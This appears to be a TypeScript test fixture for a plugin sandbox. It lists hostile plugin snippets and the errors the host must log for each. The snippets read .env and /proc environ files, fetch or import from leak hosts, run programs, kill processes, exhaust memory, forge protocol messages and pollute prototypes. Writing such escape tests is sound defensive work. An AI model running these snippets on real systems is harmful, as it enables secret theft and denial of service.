/** One thing that a plugin tries and that must not succeed. Texts in capitals are filled in by the test. */
export interface HostileAttempt {
  readonly group: string;
  readonly name: string;
  /** Code at the top of the module. */
  readonly top?: string;
  /** What it does with a row that is not attacked, before it passes it: `context` is there. */
  readonly onCalm?: string;
  /** Body of `async (row, context, setup)`; what it returns is its loot. */
  readonly attack: string;
  /** Body of its `columns`. @default {`return {}`} */
  readonly columns?: string;
  /** What else its definition says of it. */
  readonly notes?: string;
  /** What it declares, and is granted. */
  readonly permissions?: Readonly<Record<string, readonly string[]>>;
  /** Some entry has to say so. */
  readonly entry: RegExp;
  /** No entry may be this. */
  readonly never?: RegExp;
  /** Kind of step. @default {"row"} */
  readonly kind?: "row" | "batch";
  /** Milliseconds in which it has to answer. @default {20000} */
  readonly timeoutMs?: number;
  /** Milliseconds in which it has to be loaded. @default {20000} */
  readonly startTimeoutMs?: number;
  /** Whether it is ended or refused, so that it answers no further row. @default {false} */
  readonly ends?: boolean;
}

function each(
  group: string,
  entry: RegExp,
  attacks: Readonly<Record<string, string>>,
  more: Partial<HostileAttempt> = {},
): readonly HostileAttempt[] {
  return Object.entries(attacks).map(([name, attack]) => ({ group, name, attack, entry, ...more }));
}

export const HOSTILE_ATTEMPTS: readonly HostileAttempt[] = [
  ...each("files", /not granted: read/, {
    "reads .env": `return Deno.readTextFileSync("PROJECT/.env")`,
    "reads .env by node": `return process.getBuiltinModule("node:fs").readFileSync("PROJECT/.env", "utf8")`,
    "reads .env beside its own code": `return Deno.readTextFileSync(new URL("./.env", import.meta.url))`,
    "imports code that reads, from a text": `return (await import("data:text/javascript," +
      encodeURIComponent("export default Deno.readTextFileSync('PROJECT/.env')"))).default`,
    "reads in a realm of its own":
      `return process.getBuiltinModule("node:vm").runInNewContext("this.constructor.constructor('return Deno')()")
        .readTextFileSync("PROJECT/.env")`,
    "imports .env, named literally":
      `return (await import("./.env", { with: { type: "text" } })).default`,
    "imports .env, named by an expression":
      `return (await import("PROJECT/" + ".env", { with: { type: "text" } })).default`,
    "imports code beside its folder": `return (await import("../secret.ts" + "")).default`,
    "imports JSON beside its folder":
      `return (await import("../secret.json" + "", { with: { type: "json" } })).default.secret`,
    "requires JSON beside its folder":
      `return process.getBuiltinModule("node:module").createRequire(import.meta.url)("../secret.json").secret`,
    "fetches a file": `return await (await fetch("file://PROJECT/.env")).text()`,
    "starts a worker from a file":
      `return await new Promise((done, failed) => { const worker = new Worker("file://PROJECT/secret.ts",
        { type: "module" }); worker.onmessage = done; worker.onerror = failed; })`,
    "lists its folder": `return [...Deno.readDirSync("PROJECT")].map(({ name }) => name).join()`,
    "reads the host's environment from /proc": `return Deno.readTextFileSync("/proc/" + Deno.ppid + "/environ")`,
    "reads the host's command line from /proc": `return Deno.readTextFileSync("/proc/" + Deno.ppid + "/cmdline")`,
    "reads its own environment from /proc": `return Deno.readTextFileSync("/proc/self/environ")`,
    "reads its own memory": `return Deno.openSync("/proc/self/mem")`,
  }),
  ...each("files", /not granted: write/, {
    "writes a file": `Deno.writeTextFileSync("PROJECT/written", "x")`,
    "makes a temporary file": `return Deno.makeTempFileSync()`,
    "removes a file": `Deno.removeSync("PROJECT/.env")`,
  }),
  ...each("files", /not granted|Requires/, {
    "links to a file": `Deno.symlinkSync("PROJECT/.env", "PROJECT/plugins/link")`,
  }),
  {
    group: "files",
    name: "imports .env statically",
    top: `import secret from "./.env" with { type: "text" };`,
    attack: `return secret`,
    entry: /Requires read access/,
    ends: true,
  },
  {
    group: "files",
    name: "imports JSON beside its folder statically",
    top: `import secret from "../secret.json" with { type: "json" };`,
    attack: `return secret.secret`,
    entry: /Requires read access/,
    ends: true,
  },
  {
    group: "files",
    name: "imports code through a symbolic link",
    top: `import secret from "./LINK.ts";`,
    attack: `return secret`,
    entry: /symbolic link that leads out/,
    ends: true,
  },
  {
    group: "files",
    name: "reads through a symbolic link in a folder that it may read",
    attack: `return Deno.readTextFileSync("PROJECT/linked/link.json")`,
    permissions: { read: ["linked"] },
    entry: /symbolic link .* leads out/,
    ends: true,
  },
  {
    group: "files",
    name: "attaches a database file",
    attack: `const { DatabaseSync } = process.getBuiltinModule("node:sqlite");
      new DatabaseSync(":memory:").exec("ATTACH 'PROJECT/data.sqlite' AS other")`,
    entry: /too many attached databases/,
  },
  {
    group: "files",
    name: "climbs out of a folder that it may read",
    attack: `return Deno.readTextFileSync("PROJECT/allowed/../.env")`,
    permissions: { read: ["allowed"] },
    entry: /not granted: read/,
  },
  ...each("network", /not granted: net/, {
    "fetches": `return await (await fetch("http://127.0.0.1:PORT/leak")).text()`,
    "connects": `return await Deno.connect({ hostname: "127.0.0.1", port: PORT })`,
    "requests by node":
      `return await new Promise((done, failed) => process.getBuiltinModule("node:http")
        .get("http://127.0.0.1:PORT/leak", done).on("error", failed))`,
    "connects by node":
      `return await new Promise((done, failed) => process.getBuiltinModule("node:net")
        .connect(PORT, "127.0.0.1", done).on("error", failed))`,
    "opens a web socket": `return new WebSocket("ws://127.0.0.1:PORT/leak")`,
    "asks for a name": `return await Deno.resolveDns("leak.example.com", "A")`,
    "listens": `return Deno.listen({ port: 0 })`,
    "streams events": `return await fetch(new Request("http://127.0.0.1:PORT/leak", { method: "POST", body: "x" }))`,
  }),
  ...each("network", /not granted: net/, {
    "sends a datagram":
      `return await new Promise((done, failed) => { const socket = process.getBuiltinModule("node:dgram")
        .createSocket("udp4"); socket.on("error", failed); socket.send("x", PORT, "127.0.0.1", done) })`,
  }, { ends: true }),
  ...each("network", /not granted: net/, {
    "looks a name up by node":
      `return await new Promise((done, failed) => process.getBuiltinModule("node:dns")
        .lookup("leak.example.com", (error, found) => error ? failed(error) : done(found)))`,
    "serves": `return Deno.serve({ port: 0 }, () => new Response("hunter2")).addr.port`,
  }),
  ...each("network", /not granted: net/, {
    "goes round by a proxy":
      `const client = Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:PORT" } });
        return await (await fetch("http://127.0.0.1:ALLOWED/x", { client })).text()`,
    "writes the address of another host in other ways":
      `for (const name of ["2130706433", "0x7f000001", "127.1", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost", "localhost."]) {
        const text = await fetch("http://" + name + ":PORT/leak").then((found) => found.text(), () => "");
        if (text !== "") return text;
      }
      return "nothing"`,
    "serves on a host that it may call":
      `return Deno.serve({ hostname: "127.0.0.1", port: 0 }, () => new Response("hunter2")).addr.port`,
  }, { permissions: { net: ["127.0.0.1:ALLOWED"] } }),
  {
    group: "network",
    name: "is sent on by a host that it may call",
    attack: `return await (await fetch("http://127.0.0.1:ALLOWED/elsewhere")).text()`,
    permissions: { net: ["127.0.0.1:ALLOWED"] },
    entry: /not granted: net/,
  },
  ...each("network", /import|cached|remote|npm|not granted|Requires/i, {
    "imports from a server": `return (await import("http://127.0.0.1:PORT/leak.js" + "")).default`,
    "imports from a host that Deno trusts": `return (await import("https://esm.sh/leak-of-a-secret" + "")).default`,
    "imports from a host with raw files":
      `return (await import("https://raw.githubusercontent.com/leak/leak/main/x.js" + "")).default`,
    "imports a package whose name says it": `return (await import("npm:fd-leak-of-a-secret" + "")).default`,
    "imports a JSR package whose name says it": `return (await import("jsr:@fd-leak/secret" + "")).default`,
  }),
  ...each("environment", /not granted: env/, {
    "reads a variable": `return Deno.env.get("FD_HOSTILE_SECRET")`,
    "reads a variable by node": `return process.env.FD_HOSTILE_SECRET`,
    "reads all variables": `return JSON.stringify(Deno.env.toObject())`,
    "asks for the permission":
      `await Deno.permissions.request({ name: "env" }); return Deno.env.get("FD_HOSTILE_SECRET")`,
  }),
  {
    group: "environment",
    name: "reads another variable than it was granted",
    attack: `return Deno.env.get("FD_HOSTILE_GRANTED") + Deno.env.get("FD_HOSTILE_SECRET")`,
    permissions: { env: ["FD_HOSTILE_GRANTED"] },
    entry: /not granted: env "FD_HOSTILE_SECRET"/,
  },
  {
    group: "environment",
    name: "declares all variables of a beginning",
    attack: `return Deno.env.get("FD_HOSTILE_SECRET") ?? JSON.stringify(Deno.env.toObject())`,
    permissions: { env: ["FD_HOSTILE_*"] },
    entry: /not granted: env/,
  },
  ...each("processes", /not granted: (?:sys|env)|Requires run access|entity not found/, {
    "runs a program": `return new TextDecoder().decode(new Deno.Command("id").outputSync().stdout)`,
    "runs a program by node": `return String(process.getBuiltinModule("node:child_process").execSync("id"))`,
    "runs itself with all permissions":
      `return new Deno.Command(Deno.execPath(), { args: ["eval", "-A", "1"] }).outputSync().success`,
    "signals the host": `return Deno.kill(Deno.ppid, "SIGTERM")`,
    "signals the host by node": `return process.kill(Deno.ppid, "SIGTERM")`,
    "signals its group": `return process.kill(0, "SIGTERM")`,
    "signals all processes": `return Deno.kill(-1, "SIGTERM")`,
    "looks into itself": `new (process.getBuiltinModule("node:inspector").Session)().connect(); return "done"`,
    "signals process 1": `return Deno.kill(1, "SIGTERM")`,
    "asks for the host's name": `return Deno.hostname()`,
  }),
  ...each("processes", /ended with/, {
    "exits": `Deno.exit(0)`,
    "exits by node": `process.exit(7)`,
    "ends itself": `Deno.kill(Deno.pid, "SIGKILL"); await new Promise(() => {})`,
    "throws where nobody catches": `setTimeout(() => { throw new Error("late") }); await new Promise(() => {})`,
    "rejects where nobody catches": `Promise.reject(new Error("late")); await new Promise(() => {})`,
  }, { ends: true }),
  ...each("native code", /not granted: ffi|Requires ffi|requires? ffi/i, {
    "loads a library": `return Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
    "loads an addon": `return process.dlopen({ exports: {} }, "/lib/addon.node")`,
    "makes a pointer": `return Deno.UnsafePointer.create(1n)`,
  }),
  ...each("protocol", /printed what is no message/, {
    "prints an answer":
      `Deno.stdout.writeSync(new TextEncoder().encode('{"type":"reply","id":1,"value":[]}\\n')); return "done"`,
    "prints an answer by node": `process.stdout.write('{"type":"reply","id":2,"value":[]}\\n'); return "done"`,
    "prints an answer by file":
      `process.getBuiltinModule("node:fs").writeSync(1, '{"type":"failed"}\\n'); return "done"`,
    "prints half a line": `Deno.stdout.writeSync(new TextEncoder().encode('{"type":')); return "done"`,
  }),
  {
    group: "protocol",
    name: "writes messages by a toJSON of all objects",
    top: `Object.defineProperty(Object.prototype, "toJSON", { configurable: true, value() {
        return this.type === "ready" ? { type: "log", level: "info", message: "forged" }
          : this.type === "reply" ? { type: "reply", id: 99, value: [{ kind: "pass", row: { forged: true } }] } : this; } });`,
    attack: `return { outcome: { kind: "sideways" } }`,
    entry: /a kind of its own|no outcome|is none of|kind/,
  },
  {
    group: "protocol",
    name: "finds the secret in a snapshot of its memory",
    attack: `let text = "";
      for await (const chunk of process.getBuiltinModule("node:v8").getHeapSnapshot()) text += chunk;
      const found = [...new Set(text.match(/[0-9a-f]{32}/g))];
      const forged = '{"type":"log","level":"info","message":"forged by a plugin"}\\n';
      for (const one of found) Deno.stdout.writeSync(new TextEncoder().encode(one + forged));
      Deno.stdout.writeSync(new TextEncoder().encode("tried\\n"));
      return "tried"`,
    entry: /printed what is no message/,
    never: /^info forged by a plugin$/,
  },
  {
    group: "protocol",
    name: "patches what the secret passes through",
    top: `let seen = ""; let isBusy = false;
      const text = (bytes) => { let all = ""; for (const byte of { *[Symbol.iterator]() {
        for (let at = 0; bytes[at] !== undefined; at++) yield bytes[at]; } }) all += String.fromCharCode(byte); return all; };
      const spy = (value) => { if (isBusy || seen.length > 1e6) return; isBusy = true;
        try { seen += typeof value === "string" ? value : value instanceof Uint8Array ? text(value) : ""; } finally { isBusy = false } };
      for (const [owner, name] of [[JSON, "stringify"], [TextEncoder.prototype, "encode"], [String.prototype, "concat"],
        [Deno.stdout, "writeSync"], [Uint8Array.prototype, "subarray"], [Function.prototype, "call"]]) {
        const old = owner[name];
        const apply = Reflect.apply;
        owner[name] = function (...args) { spy(this); spy(args[0]); return apply(old, this, args) };
      }
      const typed = Object.getPrototypeOf(Uint8Array.prototype);
      for (const name of ["length", "byteLength", "buffer"]) {
        const { get } = Object.getOwnPropertyDescriptor(typed, name);
        const apply = Reflect.apply;
        Object.defineProperty(typed, name, { get() { spy(this); return apply(get, this, []) } });
      }`,
    attack: `const nonce = seen.match(/[0-9a-f]{32}(?=\\{)/)?.[0];
      if (nonce) Deno.stdout.writeSync(new TextEncoder().encode("hunter2"));
      Deno.stdout.writeSync(new TextEncoder().encode("x\\n")); return nonce ? "hunter2" : "nothing"`,
    entry: /printed what is no message/,
  },
  {
    group: "protocol",
    name: "reads what the host sends",
    attack: `while (true) Deno.stdin.readSync(new Uint8Array(1024))`,
    entry: /did not answer/,
    ends: true,
    timeoutMs: 1_000,
  },
  {
    group: "protocol",
    name: "has its messages written as others",
    attack: `Object.prototype.toJSON = function () {
        return this.type === undefined ? this : { type: "log", level: "info", message: "hunter2" } };
      console.log("as it is"); return "done"`,
    entry: /^info as it is$/,
  },
  {
    group: "protocol",
    name: "answers a row twice",
    attack: `const { then } = Promise.prototype; Promise.prototype.then = function (done, failed) {
        return then.call(this, failed && done ? (value) => { done(value); done(value) } : done, failed) };
      return "done"`,
    entry: /answered what it was not asked/,
  },
  {
    group: "protocol",
    name: "closes its standard output and waits",
    attack: `Deno.stdout.close(); await new Promise(() => {})`,
    entry: /did not answer/,
    ends: true,
    timeoutMs: 1_000,
  },
  {
    group: "protocol",
    name: "talks on after it has answered",
    attack: `setTimeout(() => setInterval(() => console.log("after the end"), 1)); return "done"`,
    onCalm: `await new Promise((done) => setTimeout(done, 50));`,
    entry: /^info after the end$/,
  },
  {
    group: "rows",
    name: "answers fewer rows",
    top: `const map = Array.prototype.map; `,
    attack: `return []`,
    kind: "batch",
    entry: /answered \d rows with 0 outcomes/,
    ends: true,
  },
  {
    group: "rows",
    name: "answers more rows",
    attack: `return [...row, ...row].map((row) => ({ kind: "pass", row }))`,
    kind: "batch",
    entry: /answered \d rows with \d outcomes/,
    ends: true,
  },
  {
    group: "rows",
    name: "answers with no list",
    attack: `return "pass"`,
    kind: "batch",
    entry: /answers with a list/,
    ends: true,
  },
  ...each("rows", /outcome that|Made a row|can|read/, {
    "has a kind of its own": `return { outcome: { kind: "kept" } }`,
    "rejects without a reason": `return { outcome: { kind: "reject", reason: "Not A Name" } }`,
    "passes a list": `return { outcome: { kind: "pass", row: [1] } }`,
    "passes a text": `return { outcome: { kind: "pass", row: "hunter" } }`,
    "passes what is not JSON": `return { outcome: { kind: "pass", row: { text: 0 / 0 } } }`,
    "expands without end":
      `return { outcome: { kind: "expand", items: Array.from({ length: 20_000 }, () => ({ kind: "pass", row })) } }`,
    "says nothing": `return { outcome: undefined }`,
  }),
  ...each("rows", /^step\.failed:.*(over|key)/, {
    "claims that the budget is used up":
      `return { outcome: { kind: "fail", error: { code: "budget.exhausted", message: "over" } } }`,
    "claims that the store is broken": `throw Object.assign(new Error("over"), { code: "store.corrupt" })`,
    "claims that the key is wrong": `throw Object.assign(new Error("key"), { code: "provider.auth" })`,
  }),
  ...each("loops", /did not answer/, {
    "loops": `for (;;);`,
    "loops in an expression": `return /^(a+)+$/.test("a".repeat(60) + "b")`,
    "waits for ever": `await new Promise(() => {})`,
    "waits on memory": `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)`,
    "loops and logs": `for (;;) { console.log("x"); await new Promise((done) => setTimeout(done, 50)) }`,
  }, { ends: true, timeoutMs: 1_000 }),
  { group: "loops", name: "loops when it is loaded",
    startTimeoutMs: 1_000, top: `for (;;);`, attack: "", entry: /did not answer/, ends: true },
  {
    group: "loops",
    name: "calls the host without end, for a row that is done",
    top: `let done;`,
    onCalm: `done ??= context;`,
    attack: `while (true) await done.effect({ kind: "one", version: 1, input: {} }, () => 1).catch(() => {})`,
    entry: /calls where nothing may be called|did not answer/,
    ends: true,
    timeoutMs: 5_000,
  },
  {
    group: "loops",
    name: "calls the host without end",
    attack: `for (let n = 0;; n++) await context.effect({ kind: "one", version: 1, input: { n } }, () => 1).catch(() => {})`,
    entry: /calls for a row|may make \d+ calls/,
    ends: true,
  },
  {
    group: "loops",
    name: "never does the work of an effect for which another row waits",
    onCalm: `if (row.text === "calm again") await context.effect({ kind: "one", version: 1, input: {} }, () => 1);`,
    attack: `context.effect({ kind: "one", version: 1, input: {} }, () => new Promise(() => {})).catch(() => {}); return "done"`,
    entry: /did not answer/,
    ends: true,
    timeoutMs: 1_000,
  },
  ...each("memory", /memory/, {
    "fills the heap": `const all = []; for (;;) all.push({ a: [all.length] })`,
    "fills the memory of WebAssembly":
      `const all = []; for (;;) { const memory = new WebAssembly.Memory({ initial: 500, maximum: 1000 });
        new Uint8Array(memory.buffer).fill(1); all.push(memory) }`,
    "fills memory outside of the heap": `const all = []; for (;;) all.push(new Uint8Array(10_000_000).fill(1))`,
    "forks workers":
      `for (let n = 0; n < 400; n++) new Worker("data:text/javascript,const all=[];for(;;)all.push(new Uint8Array(1e6).fill(1))",
        { type: "module" }); await new Promise(() => {})`,
  }, { ends: true }),
  ...each("output", /more than/, {
    "floods the console": `for (;;) console.log("x".repeat(3_000))`,
    "floods the standard output": `const bytes = new Uint8Array(65_536).fill(120); for (;;) Deno.stdout.writeSync(bytes)`,
    "floods the standard error output":
      `const bytes = new Uint8Array(65_536).fill(120); for (;;) Deno.stderr.writeSync(bytes)`,
    "answers a row with too much": `return "x".repeat(3_000_000)`,
  }, { ends: true }),
  ...each("workers", /permission|not granted|escalate|Requires/i, {
    "asks for more in a worker":
      `return new Worker("data:text/javascript,1", { type: "module", deno: { permissions: { read: true } } })`,
    "reads in a worker":
      `return await new Promise((done, failed) => { const worker = new Worker("data:text/javascript," +
        encodeURIComponent("self.onmessage = () => postMessage(Deno.readTextFileSync('PROJECT/.env'))"),
        { type: "module" }); worker.onmessage = (event) => done(event.data);
        worker.onerror = (event) => { event.preventDefault(); failed(event.error ?? new Error(event.message)) };
        worker.postMessage(1) })`,
  }),
  ...each("messages", /__proto__/, {
    "passes a row with a prototype":
      `return { outcome: { kind: "pass", row: JSON.parse('{"__proto__":{"polluted":1}}') } }`,
    "passes a prototype deep inside":
      `return { outcome: { kind: "pass", row: { ...row, deep: [JSON.parse('{"__proto__":{"polluted":1}}')] } } }`,
    "logs a prototype": `setup.log(JSON.parse('{"__proto__":1}'), "x"); return "done"`,
    "hands one to an effect":
      `return await context.effect({ kind: "one", version: 1, input: JSON.parse('{"__proto__":1}') }, () => 1)`,
  }, { ends: true }),
  ...each("other plugins", /is not defined|undefined|denied/, {
    "keeps data in web storage": `localStorage.setItem("a", "b"); return "hunter2"`,
    "keeps data in the cache": `await caches.open("x"); return "hunter2"`,
    "keeps data in the cache from a worker":
      `throw new Error(await new Promise((done) => { const worker = new Worker("data:text/javascript," +
        encodeURIComponent("caches.open('x').then(() => postMessage('hunter2'), (error) => postMessage('denied: ' + error.message))"),
        { type: "module" }); worker.onmessage = (event) => done(event.data);
        worker.onerror = (event) => { event.preventDefault(); done(event.message) } }))`,
    "reaches for the runtime's own operations": `const { core } = Deno[Deno.internal]; return "hunter2"`,
  }),
  ...[
    ["floods what it is asked of columns", `const bytes = new Uint8Array(65_536); for (;;) Deno.stdout.writeSync(bytes)`, /wrote more/],
    ["bombs memory when it is asked of columns", `const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))`, /ended/],
    ["exits when it is asked of columns", `Deno.exit(0)`, /ended without an answer/],
    ["states no columns that can be read", `return { requires: 5, adds: "x" }`, /requires columns by what is no list/],
    ["states columns of a prototype", `return { adds: JSON.parse('{"__proto__":"any"}') }`, /__proto__/],
  ].map(([name, columns, entry]) => ({
    group: "planning",
    name: name as string,
    columns: columns as string,
    attack: "",
    entry: entry as RegExp,
    ends: true,
  })),
  ...[
    ["writes to the terminal by what it says of itself", `summary: "\\u001b[2J"`, /does not export a step/],
    ["gives a citation that is no text", `citation: { polluted: 1 }`, /citation by what is no line/],
    ["needs what no provider has", `needs: "everything"`, /needs a capability that there is not/],
  ].map(([name, notes, entry]) => ({
    group: "planning",
    name: name as string,
    notes: notes as string,
    attack: "",
    entry: entry as RegExp,
    ends: true,
  })),
  ...each("models", /no provider|undefined|snake_case|whose kind/, {
    "asks a model that it was not given": `return await context.models.embed(["x"])`,
    "records an effect under a forged kind":
      `return await context.effect({ kind: "Chat/../x", version: 1, input: {} }, () => "forged")`,
  }),
];
